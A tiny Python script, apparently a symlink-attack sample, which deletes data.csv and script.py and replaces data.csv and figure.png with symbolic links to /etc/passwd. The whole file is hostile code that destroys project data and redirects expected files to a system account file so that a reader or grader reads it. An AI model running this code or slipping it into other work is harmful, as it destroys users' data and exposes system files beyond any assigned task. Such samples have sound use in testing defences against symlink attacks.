"""Puts links to other files of the machine in the place of its data."""

import os

os.unlink("data.csv")
os.symlink("/etc/passwd", "data.csv")
os.unlink("script.py")
os.symlink("/etc/passwd", "figure.png")
